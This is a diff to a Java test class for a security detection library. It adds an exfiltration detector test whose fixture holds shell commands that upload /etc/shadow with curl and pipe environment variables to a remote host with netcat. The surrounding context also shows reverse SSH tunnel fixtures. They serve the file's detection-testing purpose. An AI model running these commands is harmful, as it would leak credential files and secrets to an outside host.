@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.hivesec.detectors.execution.ContainerEscapeCommandDetector;
 import io.hivesec.detectors.execution.CredentialAccessCommandDetector;
 import io.hivesec.detectors.execution.DefenceEvasionCommandDetector;
+import io.hivesec.detectors.execution.ExfiltrationDetector;
 import io.hivesec.detectors.execution.MinerDetector;
 import io.hivesec.detectors.execution.PersistenceCommandDetector;
 import io.hivesec.detectors.execution.PrivilegeEscalationCommandDetector;
@@ -152,6 +153,19 @@ final class DetectorContractsTest {
         @Override
         public List<Event> incident() {
             return shellRuns("ssh -fNR 2222:localhost:22 u@203.0.113.5", "ssh -fNR 3333:localhost:22 u@203.0.113.6");
+        }
+    }
+
+    @Nested
+    class Exfiltration implements DetectorContract {
+        @Override
+        public Detector detector() {
+            return new ExfiltrationDetector();
+        }
+
+        @Override
+        public List<Event> incident() {
+            return shellRuns("curl -F file=@/etc/shadow http://203.0.113.9/", "env | nc 203.0.113.9 4444");
         }
     }
 
